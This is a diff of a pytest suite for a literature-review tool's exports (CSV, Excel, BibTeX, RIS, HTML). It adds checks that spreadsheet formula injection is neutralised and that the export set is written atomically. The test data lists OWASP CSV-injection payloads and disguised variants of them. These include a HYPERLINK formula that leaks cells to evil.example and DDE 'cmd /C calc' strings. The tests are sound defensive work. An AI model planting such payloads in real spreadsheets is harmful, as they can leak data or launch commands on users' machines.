@@ -1,22 +1,23 @@
 """Exports read back with the tools a reviewer would use: pandas/csv, openpyxl,
-LibreOffice, an HTML parser, bibtexparser and a RIS reader."""
+LibreOffice, bibtexparser and a RIS reader (the HTML report: test_report*.py)."""
 
 from __future__ import annotations
 
 import csv
-import io
+import dataclasses
+import errno
+import os
 import re
 import shutil
+import signal
 import subprocess
 import zipfile
-from html.parser import HTMLParser
 from pathlib import Path
 
 import bibtexparser
 import openpyxl
 import pandas as pd
 import pytest
-from matplotlib.figure import Figure
 
 import litreview._io
 import litreview.export as ex
@@ -29,6 +30,8 @@ HOSTILE_TITLE = (
 )
 HOSTILE_PMID = "31452104"
 CURATED_DOI = "10.2000/XYZ.5"
+#: Stands in for the report page, which test_report.py and test_report_browser.py test.
+REPORT = b"<!DOCTYPE html><title>report</title><p>report</p>\n"
 
 
 # -- fixtures -------------------------------------------------------------------
@@ -97,17 +100,9 @@ def tables() -> dict[str, pd.DataFrame]:
 
 
 @pytest.fixture
-def figure() -> Figure:
-    """A small matplotlib figure for the HTML page."""
-    fig = Figure(figsize=(2, 1.5))
-    fig.subplots().plot([0, 1, 2], [1, 0, 2])
-    return fig
-
-
-@pytest.fixture
-def written(tmp_path, tables, cited, figure) -> dict[str, Path]:
+def written(tmp_path, tables, cited) -> dict[str, Path]:
     """Every export of the fixture review."""
-    return ex.export_review(tmp_path / "out", **tables, cited=cited, figures={"evidence_map": figure})
+    return ex.export_review(tmp_path / "out", **tables, cited=cited, html_report=REPORT)
 
 
 # -- formats --------------------------------------------------------------------
@@ -141,13 +136,14 @@ def test_all_files_written(written):
 
 # -- CSV ------------------------------------------------------------------------
 def test_csv_neutralises_text_keeps_numbers(written):
-    studies = pd.read_csv(written["studies.csv"], dtype={"pmid": str})
+    studies = pd.read_csv(written["studies.csv"])
     assert studies["score"].dtype.kind == "f" and studies["score"].tolist() == [-1.5, 2.25, 0.0, 1.0]
     assert studies["pts_precision"].iloc[0] == -0.5
     assert studies["title"].iloc[0] == "'" + HOSTILE_TITLE
     assert studies["rationale"].tolist() == ["'+1 design\n-2 size", "tab\tinside", "'\tleading tab", "'\rleading CR"]
     assert studies["flags"].iloc[2] == "no_abstract; not_english"
-    assert pd.isna(studies["pmid"].iloc[1]) and pd.isna(studies["sample_size"].iloc[1])
+    assert studies["pmid"].tolist() == [HOSTILE_PMID, "PMID unresolved", "17643398", "17000001"]
+    assert pd.isna(studies["sample_size"].iloc[1])
     review = pd.read_csv(written["review.csv"])
     assert review["statement"].tolist() == ["ketamine | increases BDNF\nin humans", "'@SUM(A1) blocks NMDA"]
     assert review["verdict"].iloc[1] == "'-contested"
@@ -156,7 +152,7 @@ def test_csv_neutralises_text_keeps_numbers(written):
 
 def test_csv_cells_never_start_with_formula_character(written):
     for name in ("review.csv", "studies.csv"):
-        with open(written[name], encoding="utf-8", newline="") as handle:
+        with open(written[name], encoding="utf-8-sig", newline="") as handle:
             for row in csv.reader(handle):
                 for value in row:
                     if value.startswith(("=", "+", "-", "@", "\t", "\r")):
@@ -183,9 +179,8 @@ def test_xlsx_sheets_header_links_and_values(written):
     assert rows[0]["pmid"].hyperlink.target == f"https://pubmed.ncbi.nlm.nih.gov/{HOSTILE_PMID}/"
     assert rows[1]["doi"].hyperlink.target == f"https://doi.org/{CURATED_DOI}"
     assert rows[1]["key"].hyperlink.target == f"https://doi.org/{CURATED_DOI.lower()}"
-    assert rows[1]["pmid"].value is None and rows[1]["pmid"].hyperlink is None
+    assert rows[1]["pmid"].value == "PMID unresolved" and rows[1]["pmid"].hyperlink is None
     assert rows[2]["flags"].value == "no_abstract; not_english"
-    assert wb["review"]["K2"].value == f"{HOSTILE_PMID}; doi:{CURATED_DOI.lower()}"
     provenance = wb["provenance"]
     assert provenance["B3"].value == "PMID unresolved" and provenance["B3"].hyperlink is None
     assert wb.properties.modified.year == 2000 and wb.properties.created.year == 2000
@@ -215,66 +210,193 @@ def test_xlsx_opens_in_libreoffice(written, tmp_path):
     assert (studies["E2"].value, studies["K2"].value) == ("'" + HOSTILE_TITLE, -1.5)
 
 
+# -- exports that load as they look ---------------------------------------------
+def test_identifiers_load_as_text_with_default_readers(tmp_path):
+    """pandas' defaults give PMIDs as text, in CSV and Excel, even from numeric or gappy columns."""
+    frame = pd.DataFrame({
+        "key": ["17643398", "doi:10.1/x", "31452104"],
+        "pmid": [17643398.0, float("nan"), 31452104.0],  # what a merge with a DOI-only row makes of PMIDs
+        "claim_id": ["a", "b", "c"],
+        "n": [1, 2, 3],
+    })
+    ex.export_csv(tmp_path / "t.csv", frame)
+    ex.export_xlsx(tmp_path / "t.xlsx", {"t": frame})
+    for back in (pd.read_csv(tmp_path / "t.csv"), pd.read_excel(tmp_path / "t.xlsx")):
+        assert back["pmid"].tolist() == ["17643398", "PMID unresolved", "31452104"]
+        assert back["key"].tolist() == ["17643398", "doi:10.1/x", "31452104"]
+        assert back["n"].dtype.kind == "i"
+    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["t"]
+    assert [(c.value, c.data_type) for c in ws["B"][1:]] == [("17643398", "s"), ("PMID unresolved", "s"),
+                                                             ("31452104", "s")]
+
+
+def test_every_direction_label_survives_pandas_na_parsing(tmp_path):
+    """No label the exports write (directions, effects) is one of pandas' default NA strings ("null", "NA", ...)."""
+    from litreview.claims import EFFECTS
+    from litreview.evidence import DIRECTIONS
+
+    labels = [*DIRECTIONS, *EFFECTS]
+    assert "no_effect" in DIRECTIONS and "null" not in DIRECTIONS
+    ex.export_csv(tmp_path / "labels.csv", pd.DataFrame({"direction": labels}))
+    assert pd.read_csv(tmp_path / "labels.csv")["direction"].tolist() == labels
+
+
+def test_studies_csv_keeps_no_effect(written):
+    studies = pd.read_csv(written["studies.csv"])
+    assert studies["direction"].tolist() == ["supports", "supports", "supports", "no_effect"]
+
+
+def test_csv_has_a_bom_and_every_reader_still_reads_it(written, tmp_path):
+    """UTF-8 with BOM for Excel on Windows; pandas, csv (utf-8-sig), openpyxl and bibtexparser unaffected."""
+    frame = pd.DataFrame({"mediator": ["β-arrestin", "α-amino-3-hydroxy"], "pmid": ["1", "2"]})
+    data = ex.export_csv(tmp_path / "greek.csv", frame).read_bytes()
+    assert data.startswith(b"\xef\xbb\xbfmediator,pmid\n") and "β-arrestin".encode() in data
+    back = pd.read_csv(tmp_path / "greek.csv")
+    assert list(back.columns) == ["mediator", "pmid"]
+    assert back["mediator"].tolist() == ["β-arrestin", "α-amino-3-hydroxy"]
+    with open(tmp_path / "greek.csv", encoding="utf-8-sig", newline="") as handle:
+        assert next(csv.reader(handle)) == ["mediator", "pmid"]
+    for name in ("review.csv", "studies.csv"):
+        assert written[name].read_bytes().startswith(b"\xef\xbb\xbf")
+        assert pd.read_csv(written[name]).columns[0] in ("claim_id", "key")
+    for name in ("references.bib", "references.ris", "review.md", "review.html"):
+        assert not written[name].read_bytes().startswith(b"\xef\xbb\xbf"), name
+    assert bibtexparser.parse_string(written["references.bib"].read_text(encoding="utf-8")).failed_blocks == []
+    ex.export_xlsx(tmp_path / "greek.xlsx", {"g": frame})
+    assert openpyxl.load_workbook(tmp_path / "greek.xlsx")["g"]["A2"].value == "β-arrestin"
+
+
+def test_review_sheet_links_every_key_pmid(written):
+    ws = openpyxl.load_workbook(written["review.xlsx"])["review"]
+    header = [c.value for c in ws[1]]
+    assert header[header.index("key_pmids"):header.index("key_pmids") + 2] == ["key_pmids", "key_pmids_2"]
+    row = dict(zip(header, ws[2]))
+    assert row["key_pmids"].value == HOSTILE_PMID
+    assert row["key_pmids"].hyperlink.target == f"https://pubmed.ncbi.nlm.nih.gov/{HOSTILE_PMID}/"
+    assert row["key_pmids_2"].value == f"doi:{CURATED_DOI.lower()}"
+    assert row["key_pmids_2"].hyperlink.target == f"https://doi.org/{CURATED_DOI.lower()}"
+    assert header[-1] == "certainty_steps" and row["certainty_steps"].hyperlink is None
+    assert pd.read_csv(written["review.csv"])["key_pmids"].iloc[0] == f"{HOSTILE_PMID}; doi:{CURATED_DOI.lower()}"
+
+
+def test_unknown_first_author_is_not_given_a_name(tmp_path, tables):
+    nameless = [Article(pmid="17959792", title="NMDA receptor hypofunction", year=2007, journal="J Neurosci"),
+                Article(pmid="21292242", title="Two authors, first unnamed", year=2011,
+                        authors=(Author(), Author(last_name="Li", initials="N")))]
+    written = ex.export_review(tmp_path, **tables, cited=nameless, formats="md,bib,ris")
+    text = written["review.md"].read_text(encoding="utf-8")
+    assert "Anonymous" not in text
+    assert r"\[author not recorded\] (2007). NMDA receptor hypofunction." in text
+    assert r"\[author not recorded\], Li N (2011)" in text
+    library = bibtexparser.parse_string(written["references.bib"].read_text(encoding="utf-8"))
+    assert "author" not in library.entries[0].fields_dict
+    assert "AU  -" not in written["references.ris"].read_text(encoding="utf-8").split("ER  -")[0]
+
+
+def test_further_tables_slot_in_as_sheets_and_csv(tmp_path, tables, cited):
+    sof = pd.DataFrame({"claim_id": ["bdnf_up"], "outcome": ["BDNF"], "participants": [120],
+                        "certainty": ["⊕⊕◯◯ low"], "key_pmids": [[HOSTILE_PMID]]})
+    written = ex.export_review(tmp_path, **tables, cited=cited, formats="csv,xlsx",
+                               tables={"summary_of_findings": sof})
+    assert sorted(written) == ["review.csv", "review.xlsx", "studies.csv", "summary_of_findings.csv"]
+    wb = openpyxl.load_workbook(written["review.xlsx"])
+    assert wb.sheetnames == ["review", "studies", "screening", "provenance", "summary_of_findings"]
+    assert wb["summary_of_findings"]["E2"].hyperlink.target == f"https://pubmed.ncbi.nlm.nih.gov/{HOSTILE_PMID}/"
+    assert pd.read_csv(written["summary_of_findings.csv"])["certainty"].tolist() == ["⊕⊕◯◯ low"]
+    for bad in ("Summary of findings", "studies", "../x"):
+        with pytest.raises(ex.ExportError, match="table name"):
+            ex.export_review(tmp_path / "bad", **tables, cited=cited, tables={bad: sof})
+    assert not (tmp_path / "bad").exists()
+
+
+# -- formula injection (OWASP CSV Injection, issue 16 item 1) ---------------------
+# OWASP's triggers (= + - @ tab CR LF) and example payloads, and the same payloads as a
+# spreadsheet program may see them: after a leading space or NBSP, in full-width or small
+# forms, behind control or invisible characters that XML-based formats drop.
+OWASP_PAYLOADS = [
+    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    '=DDE("cmd";"/C calc";"!A0")A0',
+    "\t=1+2",
+    "\r=1+2",
+    "\n=1+2",
+]
+DISGUISED_PAYLOADS = [
+    ' =HYPERLINK("http://evil.example","ketamine")',
+    '\u00a0=HYPERLINK("http://evil.example","ketamine")',
+    '\uff1dHYPERLINK("http://evil.example","ketamine")',  # full-width equals
+    "\ufe66SUM(1+1)",  # small equals
+    "\uff0bcmd|' /C calc'!A0",  # full-width plus
+    "\uff0d2+3",  # full-width hyphen-minus
+    "\uff20SUM(1+9)",  # full-width commercial at
+    '\x01=HYPERLINK("http://evil.example","ketamine")',
+    "\x00=1+2",
+    "\x1f\x0b=1+2",
+    "\u200b=1+2",
+    "\ufeff=1+2",
+    "\x01 \uff1d1+2",
+]
+HARMLESS = ["ketamine", "β-arrestin", "1+1=2", "\u2013 en dash", "'quoted"]
+_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+@pytest.fixture
+def injected(tmp_path):
+    """Every payload as a title, written as CSV and as Excel."""
+    values = OWASP_PAYLOADS + DISGUISED_PAYLOADS + HARMLESS
+    frame = pd.DataFrame({"title": values, "pmid": [str(n) for n in range(1, len(values) + 1)]})
+    return values, ex.export_csv(tmp_path / "t.csv", frame), ex.export_xlsx(tmp_path / "t.xlsx", {"t": frame})
+
+
+def _expected(value: str) -> str:
+    """The value as written: XML-illegal characters dropped, then ``'`` before anything formula-like."""
+    cleaned = _XML_ILLEGAL.sub("", value)
+    return cleaned if value in HARMLESS else "'" + cleaned
+
+
+def test_csv_neutralises_owasp_and_disguised_payloads(injected):
+    values, csv_path, _ = injected
+    with open(csv_path, encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle))[1:]
+    assert [r[0] for r in rows] == [_expected(v) for v in values]
+    assert pd.read_csv(csv_path, keep_default_na=False)["title"].tolist() == [_expected(v) for v in values]
+
+
+def test_xlsx_neutralises_owasp_and_disguised_payloads(injected):
+    values, _, xlsx_path = injected
+    with zipfile.ZipFile(xlsx_path) as archive:
+        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
+    ws = openpyxl.load_workbook(xlsx_path)["t"]
+    cells = [row[0] for row in ws.iter_rows(min_row=2)]
+    assert all(c.data_type == "s" for c in cells)
+    assert [c.value for c in cells] == [_expected(v) for v in values]
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
+def test_libreoffice_runs_no_payload_as_a_formula(injected, tmp_path):
+    """LibreOffice opens both files; every cell keeps its text (a formula would have been evaluated)."""
+    values, csv_path, xlsx_path = injected
+    for source in (csv_path, xlsx_path):
+        out = tmp_path / f"lo-{source.suffix[1:]}"
+        subprocess.run(["soffice", f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}", "--headless",
+                        "--convert-to", "xlsx", "--outdir", str(out), str(source)],
+                       capture_output=True, text=True, timeout=120, check=True)
+        ws = openpyxl.load_workbook(out / f"{source.stem}.xlsx").active
+        assert all(c.data_type == "s" for row in ws.iter_rows(min_row=2, max_col=1) for c in row)
+
+
 # -- HTML -----------------------------------------------------------------------
-class _Collector(HTMLParser):
-    """Tags, links, image sources and text of a page."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.tags: list[str] = []
-        self.links: list[tuple[str, str]] = []
-        self.srcs: list[str] = []
-        self.text: list[str] = []
-        self._href: str | None = None
-
-    def handle_starttag(self, tag, attrs):
-        self.tags.append(tag)
-        attrs = dict(attrs)
-        if tag == "a":
-            self._href = attrs["href"]
-            self.links.append((self._href, ""))
-        for name in ("src", "href"):
-            if name in attrs and tag != "a":
-                self.srcs.append(attrs[name])
-
-    def handle_endtag(self, tag):
-        if tag == "a":
-            self._href = None
-
-    def handle_data(self, data):
-        self.text.append(data)
-        if self._href is not None:
-            href, label = self.links[-1]
-            self.links[-1] = (href, label + data)
-
-
-def test_html_is_standalone_escaped_and_linked(written):
-    page = written["review.html"].read_text(encoding="utf-8")
-    parsed = _Collector()
-    parsed.feed(page)
-    assert "script" not in parsed.tags and "link" not in parsed.tags
-    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
-    assert parsed.srcs and all(s.startswith("data:image/png;base64,") for s in parsed.srcs)
-    text = "".join(parsed.text)
-    assert HOSTILE_TITLE in text
-    links = set(parsed.links)
-    for pmid in (HOSTILE_PMID, "17643398", "17000001"):
-        assert (f"https://pubmed.ncbi.nlm.nih.gov/{pmid}/", f"PMID {pmid}") in links
-    assert (f"https://doi.org/{CURATED_DOI}", "PMID unresolved") in links
-    assert (f"https://doi.org/{CURATED_DOI.lower()}", f"PMID unresolved (doi:{CURATED_DOI.lower()})") in links
-    assert "curated summary (not the abstract): Mice given ketamine showed more hippocampal BDNF." in text
-    assert text.count("curated summary (not the abstract)") == 1
-
-
-def test_html_embeds_png_bytes_and_rejects_other_bytes(tmp_path, tables, cited, figure):
-    png = io.BytesIO()
-    figure.savefig(png, format="png")
-    path = ex.export_html(tmp_path / "r.html", tables["review"], tables["studies"], cited,
-                          figures={"prisma_flow": png.getvalue()})
-    assert "prisma flow" in path.read_text(encoding="utf-8")
-    with pytest.raises(ex.ExportError, match="PNG"):
-        ex.export_html(tmp_path / "bad.html", tables["review"], tables["studies"], cited, figures={"x": b"GIF89a"})
-    assert not (tmp_path / "bad.html").exists()
+def test_html_is_the_report_page_given(tmp_path, tables, cited):
+    written = ex.export_review(tmp_path, **tables, cited=cited, formats="html", html_report=REPORT)
+    assert written["review.html"].read_bytes() == REPORT
+    with pytest.raises(ex.ExportError, match="review.html is the report page"):
+        ex.export_review(tmp_path / "none", **tables, cited=cited, formats="csv,html")
+    assert not (tmp_path / "none").exists()
 
 
 # -- Markdown -------------------------------------------------------------------
@@ -385,9 +507,9 @@ def test_ris_reads_back_with_the_bibtex_set(written):
 
 
 # -- determinism and atomicity --------------------------------------------------
-def test_same_input_same_bytes(tmp_path, tables, cited, figure):
-    first = ex.export_review(tmp_path / "a", **tables, cited=cited, figures={"evidence_map": figure})
-    second = ex.export_review(tmp_path / "b", **tables, cited=cited, figures={"evidence_map": figure})
+def test_same_input_same_bytes(tmp_path, tables, cited):
+    first = ex.export_review(tmp_path / "a", **tables, cited=cited, html_report=REPORT)
+    second = ex.export_review(tmp_path / "b", **tables, cited=cited, html_report=REPORT)
     assert {n: p.read_bytes() for n, p in first.items()} == {n: p.read_bytes() for n, p in second.items()}
 
 
@@ -401,7 +523,7 @@ def test_failed_render_writes_nothing(tmp_path, tables, cited, monkeypatch):
 
     monkeypatch.setattr(ex, "_render_bibtex", broken)
     with pytest.raises(RuntimeError, match="disk full"):
-        ex.export_review(out, **tables, cited=cited)
+        ex.export_review(out, **tables, cited=cited, html_report=REPORT)
     assert [p.name for p in out.iterdir()] == ["review.csv"]
     assert (out / "review.csv").read_text(encoding="utf-8") == "old\n"
 
@@ -416,3 +538,107 @@ def test_failure_mid_write_leaves_no_partial_file(tmp_path, tables, cited, monke
     with pytest.raises(OSError, match="I/O error"):
         ex.export_ris(tmp_path / "references.ris", cited)
     assert list(tmp_path.iterdir()) == []
+
+
+# -- the export set is one unit (issue 16 items 6 and 10) ---------------------------
+def _files(folder: Path) -> dict[str, bytes]:
+    """Every file under ``folder`` (temporary files included) by relative path."""
+    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
+
+
+@pytest.fixture
+def two_sets(tmp_path, tables, cited):
+    """An output folder holding the old set, the arguments of a new set whose every file differs, and the new set."""
+    out = tmp_path / "out"
+    ex.export_review(out, **tables, cited=cited, html_report=REPORT, files={"figures/map.png": b"old figure"})
+    old = _files(out)
+    new_tables = {name: frame.copy() for name, frame in tables.items()}
+    new_tables["review"]["statement"] = new_tables["review"]["statement"] + " (revised)"
+    new_tables["studies"]["title"] = new_tables["studies"]["title"] + " (revised)"
+    new_cited = [dataclasses.replace(a, title=a.title + " (revised)") for a in cited]
+    arguments = {**new_tables, "cited": new_cited, "files": {"figures/map.png": b"new figure"},
+                 "html_report": REPORT + b"<p>revised</p>"}
+    new = _files(ex.export_review(tmp_path / "reference", **arguments)["review.csv"].parent)
+    assert sorted(old) == sorted(new) and all(old[name] != new[name] for name in old)
+    return out, old, arguments, new
+
+
+def _on_call(monkeypatch, name: str, number: int, action) -> None:
+    """Run ``action`` just before the ``number``-th call of ``os.<name>`` (1-based), then call it."""
+    real, calls = getattr(os, name), []
+
+    def wrapper(*args):
+        calls.append(args)
+        if len(calls) == number:
+            action()
+        return real(*args)
+
+    monkeypatch.setattr(litreview._io.os, name, wrapper)
+
+
+def _disk_full() -> None:
+    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
+
+
+def _interrupt() -> None:
+    os.kill(os.getpid(), signal.SIGINT)
+
+
+@pytest.mark.parametrize("number", range(1, 9))
+def test_full_disk_at_any_file_leaves_the_old_set(two_sets, monkeypatch, number):
+    out, old, arguments, _ = two_sets
+    _on_call(monkeypatch, "fsync", number, _disk_full)
+    with pytest.raises(ex.ExportError) as info:
+        ex.export_review(out, **arguments)
+    assert "No space left on device" in str(info.value) and "\n" not in str(info.value)
+    assert str(out) in str(info.value)
+    assert _files(out) == old  # nothing replaced, no temporary file left
+
+
+@pytest.mark.parametrize("number", [1, 4, 8])
+def test_interrupt_while_writing_leaves_the_old_set(two_sets, monkeypatch, number):
+    out, old, arguments, _ = two_sets
+    _on_call(monkeypatch, "fsync", number, _interrupt)
+    with pytest.raises(KeyboardInterrupt):
+        ex.export_review(out, **arguments)
+    assert _files(out) == old
+
+
+@pytest.mark.parametrize("number", [1, 2, 5, 8])
+def test_interrupt_between_renames_waits_for_the_whole_new_set(two_sets, monkeypatch, number):
+    out, _, arguments, new = two_sets
+    _on_call(monkeypatch, "replace", number, _interrupt)
+    with pytest.raises(KeyboardInterrupt):
+        ex.export_review(out, **arguments)
+    assert _files(out) == new
+    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler
+
+
+def test_sigterm_between_renames_is_delivered_after_the_last(two_sets, monkeypatch):
+    out, _, arguments, new = two_sets
+
+    class Terminated(Exception):
+        pass
+
+    def on_term(signum, frame):
+        raise Terminated
+
+    previous = signal.signal(signal.SIGTERM, on_term)
+    try:
+        _on_call(monkeypatch, "replace", 3, lambda: os.kill(os.getpid(), signal.SIGTERM))
+        with pytest.raises(Terminated):
+            ex.export_review(out, **arguments)
+        assert signal.getsignal(signal.SIGTERM) is on_term
+    finally:
+        signal.signal(signal.SIGTERM, previous)
+    assert _files(out) == new
+
+
+def test_output_path_that_is_a_file_is_a_one_line_error(tmp_path, tables, cited):
+    readme = tmp_path / "README.md"
+    readme.write_text("# keep me\n", encoding="utf-8")
+    for out in (readme, readme / "sub"):
+        with pytest.raises(ex.ExportError, match="README.md") as info:
+            ex.export_review(out, **tables, cited=cited, html_report=REPORT)
+        assert "\n" not in str(info.value)
+    assert readme.read_text(encoding="utf-8") == "# keep me\n" and sorted(tmp_path.iterdir()) == [readme]
